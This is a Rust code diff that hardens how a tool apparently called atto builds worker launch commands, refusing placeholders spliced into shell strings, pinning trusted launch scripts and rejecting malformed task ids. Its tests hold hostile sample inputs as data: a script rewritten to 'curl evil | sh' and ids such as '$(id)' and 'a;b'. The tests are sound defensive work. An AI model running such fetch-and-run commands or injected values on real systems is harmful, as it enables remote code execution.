@@ -28,14 +28,44 @@ const MAX_LINE: usize = 4 * 1024 * 1024;
 
 /// The command that starts a worker: program and arguments with placeholders —
 /// `{atto}` (this executable), `{args}` (the worker's flags, spliced in as separate
-/// arguments), `{workspace}`, `{task_id}`, `{swarm_id}`.
+/// arguments), `{workspace}`, `{task_id}`, `{swarm_id}`. A placeholder is always a whole
+/// argument: its value is never pasted into a larger word, which a shell could parse.
 #[derive(Debug, Clone, PartialEq, Eq)]
-pub struct Template(pub Vec<String>);
+pub struct Template {
+    /// Program and arguments, placeholders as whole words.
+    pub words: Vec<String>,
+    /// Workspace files the command runs, as the user trusted them.
+    pub pinned: Vec<Pinned>,
+}
 
 impl Default for Template {
     fn default() -> Self {
-        Template(vec!["{atto}".into(), "exec".into(), "{args}".into()])
+        Template {
+            words: vec!["{atto}".into(), "exec".into(), "{args}".into()],
+            pinned: Vec::new(),
+        }
     }
+}
+
+/// `worker_command` of the swarm file: the template's words, and the workspace files
+/// they name, pinned to the content the user trusted (set by the front end once it
+/// checked that trust).
+#[derive(Debug, Clone, Default, PartialEq, Eq)]
+pub struct WorkerCommand {
+    /// Program and arguments (`[]`: the default template).
+    pub words: Vec<String>,
+    /// Workspace files the words name, with their trusted content.
+    pub pinned: Vec<Pinned>,
+}
+
+/// A file a launch template runs, with the content it must still have: workers run
+/// outside any sandbox, and the workspace is where sandboxed commands write.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct Pinned {
+    /// The file.
+    pub path: PathBuf,
+    /// Its trusted content.
+    pub content: Vec<u8>,
 }
 
 /// The values a template is filled with.
@@ -53,32 +83,77 @@ pub struct Vars {
     pub swarm_id: String,
 }
 
+/// The names a template may hold, each as a whole word.
+const PLACEHOLDERS: &[&str] = &["{atto}", "{args}", "{workspace}", "{task_id}", "{swarm_id}"];
+
 impl Template {
+    /// Refuses a template with a placeholder inside a larger word (`cd {workspace} &&`):
+    /// a value pasted into a word reaches whatever parses that word, a remote shell for
+    /// ssh. Checked when the swarm file is read, so a bad template never starts.
+    pub fn check(words: &[String]) -> Result<(), String> {
+        for word in words {
+            if PLACEHOLDERS.contains(&word.as_str()) {
+                continue;
+            }
+            if let Some(p) = PLACEHOLDERS.iter().find(|p| word.contains(**p)) {
+                return Err(format!(
+                    "{word:?} has {p} inside it; a placeholder must be an argument of its own \
+                     (its value is passed as one argument, never inside a shell string)"
+                ));
+            }
+        }
+        Ok(())
+    }
+
     /// The template from config (`[]`: the default).
-    pub fn from_config(words: &[String]) -> Template {
-        if words.is_empty() {
+    pub fn from_config(command: &WorkerCommand) -> Template {
+        if command.words.is_empty() {
             Template::default()
         } else {
-            Template(words.to_vec())
+            Template {
+                words: command.words.clone(),
+                pinned: command.pinned.clone(),
+            }
         }
     }
 
     /// Program and arguments with the placeholders filled.
+    /// Each placeholder becomes its own argument(s); a word is never rewritten. A task or
+    /// swarm id that is not a plain name is refused here, where it would be passed on.
     pub fn expand(&self, vars: &Vars) -> Result<(String, Vec<String>), String> {
-        let mut out: Vec<String> = Vec::new();
-        for word in &self.0 {
-            if word == "{args}" {
-                out.extend(vars.args.iter().cloned());
-                continue;
+        Template::check(&self.words)?;
+        // Checked at each launch, not once: a worker's command could rewrite the file
+        // between two launches.
+        for pin in &self.pinned {
+            if std::fs::read(&pin.path).ok().as_deref() != Some(pin.content.as_slice()) {
+                return Err(format!(
+                    "{} changed since it was trusted (the launch template runs it); the worker \
+                     was not started. Read it, then `atto trust {}` and resume the swarm",
+                    pin.path.display(),
+                    pin.path.display()
+                ));
             }
-            out.push(
-                word.replace("{atto}", &vars.atto)
-                    .replace("{workspace}", &vars.workspace)
-                    .replace("{task_id}", &vars.task_id)
-                    .replace("{swarm_id}", &vars.swarm_id),
-            );
         }
-        if !self.0.iter().any(|w| w == "{args}") {
+        for (what, id) in [("task", &vars.task_id), ("swarm", &vars.swarm_id)] {
+            if !crate::task::is_valid_id(id) {
+                return Err(format!(
+                    "{what} id {id:?} is not 1–{} of A-Z a-z 0-9 _ -; the worker was not started",
+                    crate::task::MAX_ID_LEN
+                ));
+            }
+        }
+        let mut out: Vec<String> = Vec::new();
+        for word in &self.words {
+            match word.as_str() {
+                "{args}" => out.extend(vars.args.iter().cloned()),
+                "{atto}" => out.push(vars.atto.clone()),
+                "{workspace}" => out.push(vars.workspace.clone()),
+                "{task_id}" => out.push(vars.task_id.clone()),
+                "{swarm_id}" => out.push(vars.swarm_id.clone()),
+                _ => out.push(word.clone()),
+            }
+        }
+        if !self.words.iter().any(|w| w == "{args}") {
             return Err(
                 "the worker command has no {args}: the worker's flags (stream-json in and out, \
                  model, budget) would be lost"
@@ -465,38 +540,100 @@ mod tests {
         let (p, a) = Template::default().expand(&vars()).unwrap();
         assert_eq!(p, "/bin/atto");
         assert_eq!(a, vec!["exec", "--model", "m"]);
-        let ssh = Template(
-            [
+        let ssh = Template::from_config(&WorkerCommand {
+            words: [
                 "ssh",
                 "node7",
-                "cd {workspace} &&",
                 "{atto}",
                 "exec",
                 "{args}",
-                "# {swarm_id}/{task_id}",
+                "--",
+                "{workspace}",
+                "{swarm_id}",
+                "{task_id}",
             ]
             .map(String::from)
             .to_vec(),
-        );
+            pinned: Vec::new(),
+        });
         let (p, a) = ssh.expand(&vars()).unwrap();
         assert_eq!(p, "ssh");
         assert_eq!(
             a,
             vec![
                 "node7",
-                "cd /w &&",
                 "/bin/atto",
                 "exec",
                 "--model",
                 "m",
-                "# s1/task-1"
+                "--",
+                "/w",
+                "s1",
+                "task-1"
             ]
         );
         assert!(
-            Template(vec!["{atto}".into(), "exec".into()])
-                .expand(&vars())
-                .is_err()
+            Template::from_config(&WorkerCommand {
+                words: vec!["{atto}".into(), "exec".into()],
+                pinned: Vec::new(),
+            })
+            .expand(&vars())
+            .is_err()
         );
+    }
+
+    #[test]
+    fn a_placeholder_inside_a_larger_word_is_refused() {
+        // `cd {workspace} &&` would hand a value to a shell to parse.
+        for word in [
+            "cd {workspace} &&",
+            "# {swarm_id}/{task_id}",
+            "--dir={workspace}",
+            "{atto}x",
+        ] {
+            let words = vec![word.to_owned(), "{args}".to_owned()];
+            let err = Template::check(&words).unwrap_err();
+            assert!(err.contains(word) && err.contains("its own"), "{err}");
+        }
+        assert!(Template::check(&["{atto}".into(), "exec".into(), "{args}".into()]).is_ok());
+    }
+
+    #[test]
+    fn a_pinned_file_changed_after_it_was_trusted_stops_the_launch() {
+        let dir = tempfile::tempdir().unwrap();
+        let script = dir.path().join("launch.sh");
+        std::fs::write(&script, "exec \"$@\"\n").unwrap();
+        let command = WorkerCommand {
+            words: ["sh", "launch.sh", "{atto}", "exec", "{args}"]
+                .map(String::from)
+                .to_vec(),
+            pinned: vec![Pinned {
+                path: script.clone(),
+                content: b"exec \"$@\"\n".to_vec(),
+            }],
+        };
+        let template = Template::from_config(&command);
+        assert!(template.expand(&vars()).is_ok());
+        // A worker's command rewrites the script the next launch would run unsandboxed.
+        std::fs::write(&script, "curl evil | sh\n").unwrap();
+        let err = template.expand(&vars()).unwrap_err();
+        assert!(
+            err.contains("launch.sh") && err.contains("atto trust"),
+            "{err}"
+        );
+        std::fs::remove_file(&script).unwrap();
+        assert!(template.expand(&vars()).is_err());
+    }
+
+    #[test]
+    fn a_task_id_that_is_not_a_plain_name_is_never_substituted() {
+        for id in ["../x", "a;b", "$(id)", "a b", "", &"a".repeat(65)] {
+            let vars = Vars {
+                task_id: id.to_owned(),
+                ..vars()
+            };
+            assert!(Template::default().expand(&vars).is_err(), "{id:?}");
+        }
     }
 
     async fn run_script(script: &str) -> Report {
